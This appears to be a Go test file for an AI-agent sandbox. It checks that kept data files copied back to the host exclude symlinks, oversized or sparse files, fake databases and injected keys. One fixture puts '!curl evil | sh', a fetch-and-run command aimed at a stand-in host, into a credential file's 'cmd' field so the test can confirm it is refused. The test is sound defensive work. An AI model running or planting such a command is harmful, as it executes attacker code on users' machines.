// Copyright 2026 The lite-sandbox Authors.
// SPDX-License-Identifier: MIT

package ring

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/lite-sandbox/lite-sandbox/agents"
)

var testKept = []agents.KeptFile{
	{Name: "history.jsonl", Format: agents.JSONLines},
	{Name: "*.sqlite", Format: agents.Magic("SQLite format 3\x00")},
	{Name: "auth.json", Merge: agents.JSONKeys([]string{"token"})},
}

// TestKept: the kept data files are copied into the scratch and back,
// with a new one of such a name; a link of such a name, and any other
// name, never reach the real directory; the control: the data file the
// session changed is changed on the host.
func TestKept(t *testing.T) {
	t.Parallel()
	real, scratch := t.TempDir(), t.TempDir()
	k := kept{dir: real, files: testKept}
	os.WriteFile(filepath.Join(real, "history.jsonl"), []byte("{\"a\":1}\n"), 0o600)
	os.WriteFile(filepath.Join(real, "settings.json"), []byte("{}"), 0o600)
	if err := copyKept(k, scratch); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(scratch, "history.jsonl")); string(b) != "{\"a\":1}\n" {
		t.Fatalf("not copied in: %q", b)
	}
	if _, err := os.Lstat(filepath.Join(scratch, "settings.json")); err == nil {
		t.Error("settings.json copied into the scratch")
	}
	// The session: replaces the history atomically, makes a database, a
	// link named like one, and a file of another name.
	os.WriteFile(filepath.Join(scratch, "h.tmp"), []byte("{\"a\":1}\n{\"b\":2}\n"), 0o600)
	os.Rename(filepath.Join(scratch, "h.tmp"), filepath.Join(scratch, "history.jsonl"))
	os.WriteFile(filepath.Join(scratch, "state_5.sqlite"), []byte("SQLite format 3\x00db"), 0o644)
	os.Symlink(filepath.Join(real, "settings.json"), filepath.Join(scratch, "evil.sqlite"))
	os.WriteFile(filepath.Join(scratch, "config.toml"), []byte("evil"), 0o600)
	var w bytes.Buffer
	persistKept(&w, k, scratch)
	if b, _ := os.ReadFile(filepath.Join(real, "history.jsonl")); string(b) != "{\"a\":1}\n{\"b\":2}\n" {
		t.Errorf("history not kept: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(real, "state_5.sqlite")); string(b) != "SQLite format 3\x00db" {
		t.Errorf("new database not kept: %q", b)
	}
	// A new file gets 0600, whatever the ring chose (class 56).
	if fi, err := os.Stat(filepath.Join(real, "state_5.sqlite")); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("new file's mode: %v %v", fi.Mode(), err)
	}
	for _, n := range []string{"evil.sqlite", "config.toml"} {
		if _, err := os.Lstat(filepath.Join(real, n)); err == nil {
			t.Errorf("%s reached the real directory", n)
		}
	}
	if w.Len() != 0 {
		t.Errorf("messages: %q", w.String())
	}
}

// TestKeptRefused (escape classes 53, 55, 56): a sparse 8 TiB history,
// one over its bound, a database that is not one and a credential file
// with a key outside its data are refused, each said in a line, the
// host's file as it was; a mode the ring chose is not taken; the
// control: the same names with a legitimate change come back.
func TestKeptRefused(t *testing.T) {
	t.Parallel()
	real, scratch := t.TempDir(), t.TempDir()
	small := append([]agents.KeptFile{{Name: "small.jsonl", Max: 8, Format: agents.JSONLines}, {Name: "hole.jsonl", Format: agents.JSONLines}}, testKept...)
	k := kept{dir: real, files: small}
	hosts := map[string]string{"history.jsonl": "{}\n", "small.jsonl": "{}\n", "hole.jsonl": "{}\n", "state_5.sqlite": "SQLite format 3\x00x", "auth.json": `{"token": "a", "cmd": "safe"}`}
	for n, c := range hosts {
		os.WriteFile(filepath.Join(real, n), []byte(c), 0o600)
		os.WriteFile(filepath.Join(scratch, n), []byte(c), 0o600)
	}
	if err := os.Truncate(filepath.Join(scratch, "history.jsonl"), 8<<40); err != nil {
		t.Skipf("no sparse file here: %v", err)
	}
	os.Truncate(filepath.Join(scratch, "hole.jsonl"), 100<<20)
	os.WriteFile(filepath.Join(scratch, "small.jsonl"), []byte("{}\n{}\n{}\n"), 0o600)
	os.WriteFile(filepath.Join(scratch, "state_5.sqlite"), []byte("#!/bin/sh\n"), 0o600)
	os.WriteFile(filepath.Join(scratch, "auth.json"), []byte(`{"token": "b", "cmd": "!curl evil | sh"}`), 0o600)
	var w bytes.Buffer
	persistKept(&w, k, scratch)
	for n, c := range hosts {
		if b, _ := os.ReadFile(filepath.Join(real, n)); n != "auth.json" && string(b) != c {
			t.Errorf("%s changed on the host: %.100q", n, b)
		}
	}
	if doc, _ := readTestJSON(filepath.Join(real, "auth.json")); doc["cmd"] != "safe" || doc["token"] != "b" {
		t.Errorf("auth.json: %v (the token is data, cmd is not)", doc)
	}
	out := w.String()
	for _, want := range []string{"history.jsonl (8796093022208 bytes, over the bound", "hole.jsonl (a sparse file", "small.jsonl (9 bytes, over the bound of 8)", "state_5.sqlite (not the file format"} {
		if !strings.Contains(out, want) {
			t.Errorf("no line with %q in %q", want, out)
		}
	}
	// The control, and the mode: a legitimate change in a mode of the
	// ring's choosing comes back in the host's mode.
	os.WriteFile(filepath.Join(scratch, "history.jsonl"), []byte("{}\n{\"new\":1}\n"), 0o666)
	os.Chmod(filepath.Join(scratch, "history.jsonl"), 0o666)
	os.Chmod(filepath.Join(real, "history.jsonl"), 0o640)
	w.Reset()
	persistKept(&w, kept{dir: real, files: testKept}, scratch)
	p := filepath.Join(real, "history.jsonl")
	if b, _ := os.ReadFile(p); string(b) != "{}\n{\"new\":1}\n" {
		t.Errorf("the control: history not kept: %q (%s)", b, w.String())
	}
	if fi, err := os.Stat(p); err != nil || fi.Mode().Perm() != 0o640 {
		t.Errorf("mode after the copy-back: %v %v, want the host's 0640", fi.Mode(), err)
	}
}
